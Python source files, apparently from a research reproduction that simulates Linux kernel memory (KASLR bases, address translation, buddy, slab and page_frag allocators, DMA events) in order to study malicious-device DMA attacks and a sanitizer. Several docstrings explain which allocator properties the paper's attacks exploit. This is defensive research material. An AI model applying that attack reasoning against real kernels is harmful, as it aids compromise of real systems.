``page_offset_base`` / ``vmemmap_base`` with 1 GiB alignment (PUD shift:
"the lower 30 bits are unmodified"). These invariant low bits are exactly
what the paper's KASLR-subversion arithmetic exploits.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.kaslr.layout import region
from repro.sim.rng import DeterministicRng

#: Size of the kernel image mapped at the text base (text + data + bss).
KERNEL_IMAGE_SIZE = 64 << 20  # 64 MiB

TEXT_ALIGN_BITS = 21   # 2 MiB
BASE_ALIGN_BITS = 30   # 1 GiB


@dataclass(frozen=True)
class KaslrState:
    """Randomized bases for one boot."""

    text_base: int
    page_offset_base: int
    vmemmap_base: int
    enabled: bool = True

    def slide(self) -> int:
        """Text slide relative to the unrandomized base."""
        return self.text_base - region("kernel_text").start


def randomize(rng: DeterministicRng, *, enabled: bool = True,
              phys_bytes: int = 0) -> KaslrState:
    """Pick per-boot bases, honoring the architectural alignments.

    *phys_bytes* bounds the direct-map slide so that the whole of physical
    memory still fits inside the direct-map region.
    """
    text_region = region("kernel_text")
    dm_region = region("direct_map")
    vmm_region = region("vmemmap")
    if not enabled:
        return KaslrState(text_base=text_region.start,
                          page_offset_base=dm_region.start,
                          vmemmap_base=vmm_region.start,
                          enabled=False)
    text_base = rng.aligned_choice(
        text_region.start, text_region.start + text_region.size
        - KERNEL_IMAGE_SIZE, 1 << TEXT_ALIGN_BITS)
    page_offset_base = rng.aligned_choice(
        dm_region.start, dm_region.start + dm_region.size - phys_bytes,
        1 << BASE_ALIGN_BITS)
    vmemmap_base = rng.aligned_choice(
        vmm_region.start, vmm_region.start + vmm_region.size // 2,
        1 << BASE_ALIGN_BITS)
    return KaslrState(text_base=text_base,
                      page_offset_base=page_offset_base,
                      vmemmap_base=vmemmap_base)
