"""KVA <-> PFN <-> struct page arithmetic (section 2.4).

Once ``page_offset_base`` and ``vmemmap_base`` are known, "it becomes
possible to translate between a KVA (kernel virtual addresses within the
direct mapping region), its PFN, and its struct page address". The kernel
uses this class as its legitimate address space; an attacker who recovers
the two bases can construct an identical instance and perform the same
arithmetic -- which is precisely how the compound attacks mint KVAs.
"""

from __future__ import annotations

from repro.errors import BadAddressError, TranslationFault
from repro.kaslr.layout import STRUCT_PAGE_SIZE
from repro.kaslr.randomize import KERNEL_IMAGE_SIZE, KaslrState
from repro.mem.phys import PAGE_SHIFT, PAGE_SIZE


class AddressSpace:
    """Kernel virtual address arithmetic for one boot's KASLR state.

    Implements :class:`repro.mem.virt.VirtTranslator` so the allocators
    can hand out real direct-map KVAs.
    """

    def __init__(self, kaslr: KaslrState, phys_bytes: int) -> None:
        self._kaslr = kaslr
        self._phys_bytes = phys_bytes

    @property
    def kaslr(self) -> KaslrState:
        return self._kaslr

    @property
    def page_offset_base(self) -> int:
        return self._kaslr.page_offset_base

    @property
    def vmemmap_base(self) -> int:
        return self._kaslr.vmemmap_base

    @property
    def text_base(self) -> int:
        return self._kaslr.text_base

    # -- direct map ---------------------------------------------------------

    def kva_of_paddr(self, paddr: int) -> int:
        if not 0 <= paddr < self._phys_bytes:
            raise BadAddressError(f"paddr {paddr:#x} outside physical memory")
        return self._kaslr.page_offset_base + paddr

    def paddr_of_kva(self, kva: int) -> int:
        paddr = kva - self._kaslr.page_offset_base
        if not 0 <= paddr < self._phys_bytes:
            raise TranslationFault(
                f"KVA {kva:#x} is not a direct-map address this boot")
        return paddr

    def is_direct_map_kva(self, kva: int) -> bool:
        return (self._kaslr.page_offset_base <= kva
                < self._kaslr.page_offset_base + self._phys_bytes)

    def kva_of_pfn(self, pfn: int, offset: int = 0) -> int:
        return self.kva_of_paddr((pfn << PAGE_SHIFT) + offset)

    def pfn_of_kva(self, kva: int) -> int:
        return self.paddr_of_kva(kva) >> PAGE_SHIFT

    # -- vmemmap (struct page array) ----------------------------------------

    def struct_page_of_pfn(self, pfn: int) -> int:
        """Virtual address of ``struct page`` for frame *pfn*."""
        if pfn < 0 or (pfn << PAGE_SHIFT) >= self._phys_bytes:
            raise BadAddressError(f"PFN {pfn:#x} outside physical memory")
        return self._kaslr.vmemmap_base + pfn * STRUCT_PAGE_SIZE

    def pfn_of_struct_page(self, page_ptr: int) -> int:
        delta = page_ptr - self._kaslr.vmemmap_base
        if delta < 0 or delta % STRUCT_PAGE_SIZE != 0:
            raise TranslationFault(
                f"{page_ptr:#x} is not a struct page address this boot")
        pfn = delta // STRUCT_PAGE_SIZE
        if (pfn << PAGE_SHIFT) >= self._phys_bytes:
            raise TranslationFault(
                f"struct page {page_ptr:#x} maps PFN beyond physical memory")
        return pfn

    def is_struct_page_ptr(self, value: int) -> bool:
        try:
            self.pfn_of_struct_page(value)
        except TranslationFault:
            return False
        return True

    def kva_of_struct_page(self, page_ptr: int, offset: int = 0) -> int:
        """Translate struct page + offset to the direct-map KVA.

        This is attack step 3 of Poisoned TX (Figure 8): "The NIC
        identifies the poisoned buffer and translates struct page to KVA".
        """
        if not 0 <= offset < PAGE_SIZE:
            raise BadAddressError(f"bad page offset {offset:#x}")
        return self.kva_of_pfn(self.pfn_of_struct_page(page_ptr), offset)

    # -- kernel image -------------------------------------------------------

    def is_text_kva(self, kva: int) -> bool:
        return (self._kaslr.text_base <= kva
                < self._kaslr.text_base + KERNEL_IMAGE_SIZE)

    def symbol_kva(self, unslid_offset: int) -> int:
        """KVA of the image symbol at *unslid_offset* into the image."""
        if not 0 <= unslid_offset < KERNEL_IMAGE_SIZE:
            raise BadAddressError(
                f"symbol offset {unslid_offset:#x} outside kernel image")
        return self._kaslr.text_base + unslid_offset
