"""Physical-memory model and kernel allocators.

The memory substrate is byte-accurate: every page is a real 4 KiB
bytearray, so sub-page co-location -- the root cause of every
vulnerability in the paper -- is a physical fact of the simulation, not a
flag on an object.
"""

from repro.mem.phys import (PAGE_SHIFT, PAGE_SIZE, Page, PhysicalMemory,
                            paddr_to_pfn, page_offset, pfn_to_paddr)
from repro.mem.buddy import BuddyAllocator
from repro.mem.slab import SlabAllocator
from repro.mem.page_frag import PageFragAllocator, PageFragCache

__all__ = [
    "PAGE_SHIFT",
    "PAGE_SIZE",
    "Page",
    "PhysicalMemory",
    "paddr_to_pfn",
    "page_offset",
    "pfn_to_paddr",
    "BuddyAllocator",
    "SlabAllocator",
    "PageFragAllocator",
    "PageFragCache",
]
