"""Allocation/DMA event plumbing.

The allocators and the DMA API publish events through a
:class:`MemEventSink`. D-KASAN subscribes to these events; when no
sanitizer is installed a :class:`NullSink` swallows them at negligible
cost. Keeping the protocol here lets ``repro.mem`` and ``repro.dma`` stay
free of any dependency on ``repro.core``.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class AllocSite:
    """Attribution for an allocation, mimicking a kernel stack frame.

    Rendered exactly the way KASAN renders frames:
    ``function+0xoff/0xsize`` (see Figure 3 in the paper).
    """

    function: str
    offset: int = 0
    size: int = 0

    def __str__(self) -> str:
        return f"{self.function}+{self.offset:#x}/{self.size:#x}"


class MemEventSink:
    """Interface consumed by run-time sanitizers.

    All addresses are *physical*; sizes are bytes. ``perm`` strings are
    the DMA permission names: ``"READ"``, ``"WRITE"``, ``"BIDIRECTIONAL"``.
    """

    def on_alloc(self, paddr: int, size: int, site: AllocSite) -> None:
        """An object of *size* bytes was allocated at *paddr*."""

    def on_free(self, paddr: int, size: int) -> None:
        """The object at *paddr* was freed."""

    def on_pages_alloc(self, pfn: int, nr_pages: int, site: AllocSite) -> None:
        """*nr_pages* page frames starting at *pfn* were allocated."""

    def on_pages_free(self, pfn: int, nr_pages: int) -> None:
        """*nr_pages* page frames starting at *pfn* were freed."""

    def on_dma_map(self, paddr: int, size: int, perm: str,
                   device: str, site: AllocSite) -> None:
        """[paddr, paddr+size) was DMA-mapped for *device*.

        Every page the range touches became device-accessible; the
        byte range identifies which object is the intended I/O buffer
        (as opposed to a co-located bystander).
        """

    def on_dma_unmap(self, paddr: int, size: int, device: str) -> None:
        """The DMA mapping over [paddr, paddr+size) was removed."""

    def on_cpu_access(self, paddr: int, size: int, write: bool,
                      site: AllocSite) -> None:
        """The CPU touched [paddr, paddr+size)."""

    def on_device_access(self, paddr: int, size: int, write: bool,
                         device: str, stale: bool) -> None:
        """A device DMA touched [paddr, paddr+size).

        *stale* is True when the translation came from an IOTLB entry
        whose page-table entry is already gone (deferred-invalidation
        window) -- the hardware-level signal behind the paper's
        "device has access ... unbeknownst to the CPU".
        """


class NullSink(MemEventSink):
    """Default sink: sanitizer disabled."""


NULL_SINK = NullSink()
