"""Buddy page allocator with per-CPU hot-page caches.

Models the two properties of the Linux page allocator that the paper's
attacks depend on:

* **Near-deterministic boot allocation.** Free blocks are handed out in a
  deterministic order, so the set of PFNs a driver's RX rings land on
  repeats across boots (the RingFlood attack, section 5.3).
* **Hot-page reuse.** Freed order-0 pages go to a per-CPU LIFO cache and
  are the first to be re-allocated ("Linux reuses hot pages as they are
  likely to reside in the CPU caches", section 5.2.1), which lets a device
  holding a stale IOTLB entry attack whatever object the page is reused
  for.
"""

from __future__ import annotations

from collections import defaultdict

from repro import faults, trace
from repro.errors import AllocatorError, OutOfMemoryError
from repro.mem.accounting import NULL_SINK, AllocSite, MemEventSink
from repro.mem.phys import PhysicalMemory

MAX_ORDER = 10  # largest block: 2^10 pages = 4 MiB
PCP_BATCH = 32  # per-CPU cache high-water mark


class BuddyAllocator:
    """Power-of-two buddy allocator over a :class:`PhysicalMemory`.

    ``reserved_low_pages`` models the frames the kernel image, page
    tables, and early boot allocations pin before drivers load.
    """

    def __init__(self, phys: PhysicalMemory, *, nr_cpus: int = 1,
                 reserved_low_pages: int = 256,
                 sink: MemEventSink = NULL_SINK) -> None:
        if reserved_low_pages >= phys.nr_pages:
            raise ValueError("reserved pages exceed physical memory")
        self._phys = phys
        self._nr_cpus = nr_cpus
        self._sink = sink
        self._free_lists: dict[int, list[int]] = {o: [] for o in
                                                  range(MAX_ORDER + 1)}
        self._free_set: set[tuple[int, int]] = set()  # (pfn, order)
        self._pcp: dict[int, list[int]] = defaultdict(list)
        self._allocated: dict[int, int] = {}  # base pfn -> order
        self._nr_free = 0
        self._generation = 0
        self.nr_allocs = 0  # cumulative successful alloc_pages calls
        self.nr_frees = 0   # cumulative successful free_pages calls
        self._seed_free_lists(reserved_low_pages, phys.nr_pages)

    def _seed_free_lists(self, start: int, end: int) -> None:
        """Carve [start, end) into maximal aligned power-of-two blocks."""
        pfn = start
        while pfn < end:
            order = MAX_ORDER
            while order > 0 and (pfn % (1 << order) != 0
                                 or pfn + (1 << order) > end):
                order -= 1
            self._push_free(pfn, order)
            pfn += 1 << order

    # -- free-list plumbing -------------------------------------------------

    def _push_free(self, pfn: int, order: int) -> None:
        self._free_lists[order].append(pfn)
        self._free_set.add((pfn, order))
        self._nr_free += 1 << order

    def _pop_free(self, order: int) -> int:
        pfn = self._free_lists[order].pop()
        self._free_set.remove((pfn, order))
        self._nr_free -= 1 << order
        return pfn

    def _remove_free(self, pfn: int, order: int) -> None:
        self._free_lists[order].remove(pfn)
        self._free_set.remove((pfn, order))
        self._nr_free -= 1 << order

    # -- public API ---------------------------------------------------------

    @property
    def nr_free_pages(self) -> int:
        return self._nr_free + sum(len(v) for v in self._pcp.values())

    def alloc_pages(self, order: int = 0, *, cpu: int = 0,
                    site: AllocSite | None = None) -> int:
        """Allocate 2^order contiguous page frames; returns the base PFN."""
        if not 0 <= order <= MAX_ORDER:
            raise AllocatorError(f"bad order {order}")
        if "mem.buddy.alloc" in faults.active_sites \
                and faults.fires("mem.buddy.alloc"):
            raise faults.InjectedOutOfMemory("mem.buddy.alloc")
        if order == 0 and self._pcp[cpu]:
            pfn = self._pcp[cpu].pop()  # LIFO: hottest page first
        else:
            pfn = self._alloc_from_buddy(order)
        self._allocated[pfn] = order
        self._generation += 1
        self.nr_allocs += 1
        for i in range(1 << order):
            page = self._phys.page(pfn + i)
            page.allocated = True
            page.order = order
            page.alloc_generation = self._generation
        if trace.enabled("mem"):
            trace.emit("mem", "pages_alloc", pfn=pfn, order=order,
                       cpu=cpu, site=str(site or "alloc_pages"))
        self._sink.on_pages_alloc(pfn, 1 << order,
                                  site or AllocSite("alloc_pages"))
        return pfn

    def _alloc_from_buddy(self, order: int) -> int:
        current = order
        while current <= MAX_ORDER and not self._free_lists[current]:
            current += 1
        if current > MAX_ORDER:
            raise OutOfMemoryError(f"no free block of order {order}")
        pfn = self._pop_free(current)
        while current > order:  # split, keeping the low half
            current -= 1
            self._push_free(pfn + (1 << current), current)
        return pfn

    def alloc_page(self, *, cpu: int = 0,
                   site: AllocSite | None = None) -> int:
        """Allocate a single page frame (order 0)."""
        return self.alloc_pages(0, cpu=cpu, site=site)

    def free_pages(self, pfn: int, order: int | None = None, *,
                   cpu: int = 0) -> None:
        """Free the block based at *pfn* (order defaults to the recorded one)."""
        recorded = self._allocated.pop(pfn, None)
        if recorded is None:
            raise AllocatorError(f"free of unallocated PFN {pfn:#x}")
        if order is not None and order != recorded:
            self._allocated[pfn] = recorded
            raise AllocatorError(
                f"free order {order} != allocated order {recorded}")
        order = recorded
        self.nr_frees += 1
        for i in range(1 << order):
            self._phys.page(pfn + i).allocated = False
        if trace.enabled("mem"):
            trace.emit("mem", "pages_free", pfn=pfn, order=order,
                       cpu=cpu)
        self._sink.on_pages_free(pfn, 1 << order)
        if order == 0:
            self._pcp[cpu].append(pfn)
            if len(self._pcp[cpu]) > PCP_BATCH:
                # Drain the coldest half back to the buddy lists.
                drain = self._pcp[cpu][:PCP_BATCH // 2]
                del self._pcp[cpu][:PCP_BATCH // 2]
                for cold in drain:
                    self._merge_free(cold, 0)
        else:
            self._merge_free(pfn, order)

    def _merge_free(self, pfn: int, order: int) -> None:
        """Coalesce with the buddy block while both halves are free."""
        while order < MAX_ORDER:
            buddy = pfn ^ (1 << order)
            if (buddy, order) not in self._free_set:
                break
            self._remove_free(buddy, order)
            pfn = min(pfn, buddy)
            order += 1
        self._push_free(pfn, order)

    def is_allocated(self, pfn: int) -> bool:
        """Whether frame *pfn* is inside any live allocation."""
        return self._phys.page(pfn).allocated

    def snapshot_free_pfns(self) -> list[int]:
        """All currently free PFNs (diagnostics and property tests)."""
        pfns: list[int] = []
        for order, blocks in self._free_lists.items():
            for base in blocks:
                pfns.extend(range(base, base + (1 << order)))
        for cache in self._pcp.values():
            pfns.extend(cache)
        return pfns
