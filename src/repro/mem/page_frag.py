"""The ``page_frag`` allocator (Figure 5 of the paper).

``page_frag`` is the fast allocator the Linux network stack uses for RX
data buffers (``netdev_alloc_skb`` / ``napi_alloc_skb``). It grabs a
contiguous chunk (32 KiB by default), keeps a ``va`` pointer to its start
and an ``offset`` initialized to the chunk's end, and satisfies each
request for *B* bytes by subtracting *B* from ``offset``.

Consequences reproduced here:

* consecutive allocations are adjacent and **co-reside on pages**
  whenever the buffer size is below 4 KiB -- the type (c) sub-page
  vulnerability (Figure 1c) that keeps ``skb_shared_info`` writable via a
  neighbour buffer's IOVA even under strict IOTLB invalidation
  (section 5.2.2, path iii);
* each CPU has its own cache, and each RX ring is served by its own
  per-CPU chunk (Figure 5).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro import faults, trace
from repro.errors import AllocatorError
from repro.mem.accounting import NULL_SINK, AllocSite, MemEventSink
from repro.mem.buddy import BuddyAllocator
from repro.mem.phys import PAGE_SIZE
from repro.mem.virt import VirtTranslator

#: Default chunk: order-3 allocation = 8 pages = 32 KiB, as in Linux.
DEFAULT_CHUNK_ORDER = 3


@dataclass
class _Chunk:
    base_pfn: int
    order: int
    offset: int                  # next allocation ends here (grows down)
    refcount: int = 1            # +1 bias held by the cache while current
    # live fragments, paddr -> size; the offset only walks down within
    # a chunk's lifetime, so paddrs are unique and free() is one pop
    # instead of a linear scan
    frags: dict[int, int] = field(default_factory=dict)

    @property
    def size(self) -> int:
        return PAGE_SIZE << self.order

    @property
    def base_paddr(self) -> int:
        return self.base_pfn * PAGE_SIZE


class PageFragCache:
    """One CPU's fragment cache."""

    def __init__(self, buddy: BuddyAllocator, translate: VirtTranslator, *,
                 cpu: int = 0, chunk_order: int = DEFAULT_CHUNK_ORDER,
                 sink: MemEventSink = NULL_SINK) -> None:
        self._buddy = buddy
        self._translate = translate
        self._cpu = cpu
        self._chunk_order = chunk_order
        self._sink = sink
        self._current: _Chunk | None = None
        self._chunk_of_frag: dict[int, _Chunk] = {}  # frag paddr -> chunk
        self.nr_allocs = 0   # cumulative fragments handed out
        self.nr_frees = 0    # cumulative fragments released
        self.nr_refills = 0  # cumulative chunk refills from the buddy

    @property
    def nr_live_frags(self) -> int:
        return len(self._chunk_of_frag)

    @property
    def cpu(self) -> int:
        return self._cpu

    @property
    def chunk_size(self) -> int:
        return PAGE_SIZE << self._chunk_order

    def _refill(self, site: AllocSite) -> _Chunk:
        if self._current is not None:
            self._release_bias(self._current)
        pfn = self._buddy.alloc_pages(self._chunk_order, cpu=self._cpu,
                                      site=site)
        chunk = _Chunk(pfn, self._chunk_order, offset=self.chunk_size)
        self._current = chunk
        self.nr_refills += 1
        return chunk

    def _release_bias(self, chunk: _Chunk) -> None:
        chunk.refcount -= 1
        if chunk.refcount == 0:
            self._buddy.free_pages(chunk.base_pfn, cpu=self._cpu)

    def alloc(self, size: int, *, align: int = 64,
              site: AllocSite | None = None) -> int:
        """Allocate *size* bytes from the current chunk; returns a KVA.

        Matches ``page_frag_alloc``: the offset walks *down* from the end
        of the chunk, so back-to-back allocations are laid out
        back-to-front and share pages.
        """
        if size <= 0:
            raise AllocatorError(f"page_frag alloc of size {size}")
        if size > self.chunk_size:
            raise AllocatorError(
                f"page_frag alloc of {size} exceeds chunk ({self.chunk_size})")
        if "mem.page_frag.alloc" in faults.active_sites \
                and faults.fires("mem.page_frag.alloc"):
            raise faults.InjectedOutOfMemory("mem.page_frag.alloc")
        site = site or AllocSite("page_frag_alloc")
        aligned = -(-size // align) * align
        chunk = self._current
        if chunk is None or chunk.offset - aligned < 0:
            chunk = self._refill(site)
        chunk.offset -= aligned
        paddr = chunk.base_paddr + chunk.offset
        chunk.refcount += 1
        chunk.frags[paddr] = size
        self._chunk_of_frag[paddr] = chunk
        self.nr_allocs += 1
        if "mem" in trace.active_categories:
            trace.emit("mem", "frag_alloc", size=size, cpu=self._cpu,
                       chunk_pfn=chunk.base_pfn,
                       offset=chunk.offset, site=str(site))
        self._sink.on_alloc(paddr, aligned, site)
        return self._translate.kva_of_paddr(paddr)

    def free(self, kva: int) -> None:
        """Drop one fragment reference (``page_frag_free``)."""
        paddr = self._translate.paddr_of_kva(kva)
        chunk = self._chunk_of_frag.pop(paddr, None)
        if chunk is None:
            raise AllocatorError(f"page_frag free of unknown KVA {kva:#x}")
        fsize = chunk.frags.pop(paddr, None)
        if fsize is not None:
            self._sink.on_free(paddr, fsize)
        chunk.refcount -= 1
        self.nr_frees += 1
        if "mem" in trace.active_categories:
            trace.emit("mem", "frag_free", cpu=self._cpu,
                       chunk_pfn=chunk.base_pfn,
                       refcount=chunk.refcount)
        if chunk.refcount == 0:
            self._buddy.free_pages(chunk.base_pfn, cpu=self._cpu)

    def current_chunk_span(self) -> tuple[int, int] | None:
        """(base_pfn, nr_pages) of the live chunk, or None."""
        if self._current is None:
            return None
        return (self._current.base_pfn, 1 << self._current.order)


class PageFragAllocator:
    """Per-CPU collection of :class:`PageFragCache` (Figure 5).

    "In multi-core environments, the page_frag uses a different buffer for
    each CPU and each CPU has a single RX ring."
    """

    def __init__(self, buddy: BuddyAllocator, translate: VirtTranslator, *,
                 nr_cpus: int = 1, chunk_order: int = DEFAULT_CHUNK_ORDER,
                 sink: MemEventSink = NULL_SINK) -> None:
        self._caches = {
            cpu: PageFragCache(buddy, translate, cpu=cpu,
                               chunk_order=chunk_order, sink=sink)
            for cpu in range(nr_cpus)
        }

    def caches(self):
        """Every per-CPU cache, in CPU order (metrics collection)."""
        return [self._caches[cpu] for cpu in sorted(self._caches)]

    def cache(self, cpu: int) -> PageFragCache:
        try:
            return self._caches[cpu]
        except KeyError:
            raise AllocatorError(f"no page_frag cache for CPU {cpu}") from None

    def alloc(self, size: int, *, cpu: int = 0, align: int = 64,
              site: AllocSite | None = None) -> int:
        return self.cache(cpu).alloc(size, align=align, site=site)

    def free(self, kva: int, *, cpu: int = 0) -> None:
        self.cache(cpu).free(kva)
