"""Byte-accurate physical memory.

Physical memory is a sparse collection of 4 KiB pages indexed by page
frame number (PFN). Page contents are real bytearrays so that a DMA write
by a (possibly malicious) device and a later CPU read of, say, a
``destructor_arg`` field observe the same bytes -- the mechanism every
attack in the paper rides on.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

from repro.errors import BadAddressError

#: Architecture constants (x86-64, 4 KiB base pages).
PAGE_SHIFT = 12
PAGE_SIZE = 1 << PAGE_SHIFT
PAGE_MASK = PAGE_SIZE - 1

_U64 = struct.Struct("<Q")
_U32 = struct.Struct("<I")
_U16 = struct.Struct("<H")


def pfn_to_paddr(pfn: int) -> int:
    """Physical address of the first byte of page *pfn*."""
    return pfn << PAGE_SHIFT


def paddr_to_pfn(paddr: int) -> int:
    """PFN containing physical address *paddr*."""
    return paddr >> PAGE_SHIFT


def page_offset(addr: int) -> int:
    """Offset of *addr* within its page (the low 12 bits).

    The paper notes (section 5.2.2, footnote 5) that these bits are
    preserved across KVA/IOVA/physical views of the same byte, which
    attackers exploit to locate structures within pages.
    """
    return addr & PAGE_MASK


@dataclass
class Page:
    """One physical page frame.

    ``allocated`` and ``order`` are buddy-allocator bookkeeping;
    ``alloc_generation`` increments on every allocation of this frame so
    experiments can detect page reuse.
    """

    pfn: int
    data: bytearray = field(default_factory=lambda: bytearray(PAGE_SIZE))
    allocated: bool = False
    order: int = 0
    alloc_generation: int = 0

    def clear(self) -> None:
        self.data[:] = bytes(PAGE_SIZE)


class PhysicalMemory:
    """Sparse physical memory of *nr_pages* frames.

    Reads and writes may span page boundaries; they are split across the
    underlying frames. Accessing a frame outside the modeled range raises
    :class:`BadAddressError` (the bus would abort the transaction).
    """

    def __init__(self, nr_pages: int) -> None:
        if nr_pages <= 0:
            raise ValueError(f"nr_pages must be positive, got {nr_pages}")
        self._nr_pages = nr_pages
        self._pages: dict[int, Page] = {}

    @property
    def nr_pages(self) -> int:
        return self._nr_pages

    @property
    def size_bytes(self) -> int:
        return self._nr_pages * PAGE_SIZE

    def page(self, pfn: int) -> Page:
        """The :class:`Page` for frame *pfn*, materializing it lazily."""
        if not 0 <= pfn < self._nr_pages:
            raise BadAddressError(
                f"PFN {pfn:#x} outside physical memory "
                f"(0..{self._nr_pages - 1:#x})")
        page = self._pages.get(pfn)
        if page is None:
            page = Page(pfn)
            self._pages[pfn] = page
        return page

    def valid_paddr(self, paddr: int, length: int = 1) -> bool:
        """Whether [paddr, paddr+length) lies inside modeled memory."""
        return 0 <= paddr and paddr + length <= self.size_bytes and length >= 0

    def read(self, paddr: int, length: int) -> bytes:
        """Read *length* bytes starting at physical address *paddr*."""
        if length < 0:
            raise ValueError(f"negative read length {length}")
        if not self.valid_paddr(paddr, length):
            raise BadAddressError(
                f"physical read [{paddr:#x}, +{length}) out of range")
        out = bytearray()
        while length > 0:
            pfn = paddr_to_pfn(paddr)
            off = page_offset(paddr)
            chunk = min(length, PAGE_SIZE - off)
            out += self.page(pfn).data[off:off + chunk]
            paddr += chunk
            length -= chunk
        return bytes(out)

    def write(self, paddr: int, data: bytes) -> None:
        """Write *data* starting at physical address *paddr*."""
        if not self.valid_paddr(paddr, len(data)):
            raise BadAddressError(
                f"physical write [{paddr:#x}, +{len(data)}) out of range")
        view = memoryview(data)
        while view.nbytes > 0:
            pfn = paddr_to_pfn(paddr)
            off = page_offset(paddr)
            chunk = min(view.nbytes, PAGE_SIZE - off)
            self.page(pfn).data[off:off + chunk] = view[:chunk]
            paddr += chunk
            view = view[chunk:]

    # Fixed-width helpers (little-endian, matching x86-64).

    def read_u64(self, paddr: int) -> int:
        return _U64.unpack(self.read(paddr, 8))[0]

    def write_u64(self, paddr: int, value: int) -> None:
        self.write(paddr, _U64.pack(value & 0xFFFF_FFFF_FFFF_FFFF))

    def read_u32(self, paddr: int) -> int:
        return _U32.unpack(self.read(paddr, 4))[0]

    def write_u32(self, paddr: int, value: int) -> None:
        self.write(paddr, _U32.pack(value & 0xFFFF_FFFF))

    def read_u16(self, paddr: int) -> int:
        return _U16.unpack(self.read(paddr, 2))[0]

    def write_u16(self, paddr: int, value: int) -> None:
        self.write(paddr, _U16.pack(value & 0xFFFF))

    def read_u8(self, paddr: int) -> int:
        return self.read(paddr, 1)[0]

    def write_u8(self, paddr: int, value: int) -> None:
        self.write(paddr, bytes([value & 0xFF]))
