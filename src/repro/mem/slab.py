"""SLUB-style slab allocator (the kernel's ``kmalloc``).

Two behaviours matter to the paper and are modeled faithfully:

* **Freelist metadata lives on the slab page** (type (b) sub-page
  vulnerability, Figure 1): each free object's first 8 bytes hold the KVA
  of the next free object. If an I/O buffer allocated from a slab page is
  DMA-mapped, the device can read kernel pointers from -- and corrupt --
  this freelist.
* **Objects of similar size share pages** (type (d), random co-location):
  ``kmalloc`` rounds requests up to a size class and packs them onto
  shared slab pages, so an I/O buffer and an unrelated kernel object
  routinely co-reside on one page. D-KASAN's ``alloc-after-map`` /
  ``map-after-alloc`` events detect exactly this.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro import faults, trace
from repro.errors import AllocatorError
from repro.mem.accounting import NULL_SINK, AllocSite, MemEventSink
from repro.mem.buddy import BuddyAllocator
from repro.mem.phys import PAGE_SIZE, PhysicalMemory, paddr_to_pfn
from repro.mem.virt import VirtTranslator

#: kmalloc size classes, as in Linux (kmalloc-8 ... kmalloc-8k).
KMALLOC_SIZES = (8, 16, 32, 64, 96, 128, 192, 256, 512, 1024, 2048,
                 4096, 8192)

#: End-of-freelist sentinel stored in the last free object.
_FREELIST_END = 0


@dataclass
class _Slab:
    """One slab: 2^order contiguous pages carved into equal objects."""

    base_pfn: int
    order: int
    object_size: int
    inuse: int = 0
    freelist_head_paddr: int = field(default=0)  # 0 == empty

    @property
    def base_paddr(self) -> int:
        return self.base_pfn * PAGE_SIZE

    @property
    def capacity(self) -> int:
        return (PAGE_SIZE << self.order) // self.object_size


class _KmemCache:
    """Per-size-class cache, holding partial and full slabs."""

    def __init__(self, object_size: int) -> None:
        self.object_size = object_size
        # Slabs for 8 KiB objects span two pages; everything else fits one.
        self.slab_order = 1 if object_size > PAGE_SIZE else 0
        self.partial: list[_Slab] = []
        self.full: list[_Slab] = []
        self.slab_by_pfn: dict[int, _Slab] = {}

    @property
    def name(self) -> str:
        return f"kmalloc-{self.object_size}"


class SlabAllocator:
    """``kmalloc``/``kfree`` over a buddy allocator.

    Returns and accepts *kernel virtual addresses*; freelist pointers
    written into slab memory are also KVAs, so a device reading a mapped
    slab page observes genuine kernel pointers.
    """

    def __init__(self, phys: PhysicalMemory, buddy: BuddyAllocator,
                 translate: VirtTranslator, *,
                 sink: MemEventSink = NULL_SINK) -> None:
        self._phys = phys
        self._buddy = buddy
        self._translate = translate
        self._sink = sink
        self._caches = {size: _KmemCache(size) for size in KMALLOC_SIZES}
        self._live: dict[int, tuple[int, int]] = {}  # paddr -> (class, req)
        self.nr_kmallocs = 0  # cumulative successful kmalloc calls
        self.nr_kfrees = 0    # cumulative successful kfree calls

    # -- helpers ------------------------------------------------------------

    def size_class(self, size: int) -> int:
        """The kmalloc size class a request of *size* bytes rounds up to."""
        for cls in KMALLOC_SIZES:
            if size <= cls:
                return cls
        raise AllocatorError(
            f"kmalloc of {size} bytes exceeds the largest size class; "
            f"use alloc_pages for large buffers")

    def _cache_of_slab_pfn(self, pfn: int) -> _KmemCache | None:
        for cache in self._caches.values():
            slab = cache.slab_by_pfn.get(pfn)
            if slab is not None:
                return cache
        return None

    def _new_slab(self, cache: _KmemCache, cpu: int,
                  site: AllocSite) -> _Slab:
        pfn = self._buddy.alloc_pages(cache.slab_order, cpu=cpu, site=site)
        slab = _Slab(pfn, cache.slab_order, cache.object_size)
        # Thread the freelist through the objects themselves (SLUB-style):
        # the first word of each free object is the KVA of the next.
        nobj = slab.capacity
        base = slab.base_paddr
        next_kva = _FREELIST_END
        for i in range(nobj - 1, -1, -1):
            obj_paddr = base + i * cache.object_size
            self._phys.write_u64(obj_paddr, next_kva)
            next_kva = self._translate.kva_of_paddr(obj_paddr)
        slab.freelist_head_paddr = base
        for i in range(1 << cache.slab_order):
            cache.slab_by_pfn[pfn + i] = slab
        return slab

    # -- public API ---------------------------------------------------------

    def kmalloc(self, size: int, *, cpu: int = 0,
                site: AllocSite | None = None) -> int:
        """Allocate *size* bytes; returns the object's KVA."""
        if size <= 0:
            raise AllocatorError(f"kmalloc of non-positive size {size}")
        if "mem.slab.kmalloc" in faults.active_sites \
                and faults.fires("mem.slab.kmalloc"):
            raise faults.InjectedOutOfMemory("mem.slab.kmalloc")
        site = site or AllocSite("kmalloc")
        cache = self._caches[self.size_class(size)]
        if not cache.partial:
            cache.partial.append(self._new_slab(cache, cpu, site))
        slab = cache.partial[-1]
        obj_paddr = slab.freelist_head_paddr
        if obj_paddr == 0:
            raise AllocatorError(f"corrupt freelist in {cache.name}")
        next_kva = self._phys.read_u64(obj_paddr)
        slab.freelist_head_paddr = (
            0 if next_kva == _FREELIST_END
            else self._translate.paddr_of_kva(next_kva))
        slab.inuse += 1
        if slab.freelist_head_paddr == 0:
            cache.partial.remove(slab)
            cache.full.append(slab)
        # Scrub the freelist word so the caller starts with zeroed link.
        self._phys.write_u64(obj_paddr, 0)
        self._live[obj_paddr] = (cache.object_size, size)
        self.nr_kmallocs += 1
        if trace.enabled("mem"):
            trace.emit("mem", "kmalloc", size=size,
                       object_size=cache.object_size, cpu=cpu,
                       pfn=paddr_to_pfn(obj_paddr), site=str(site))
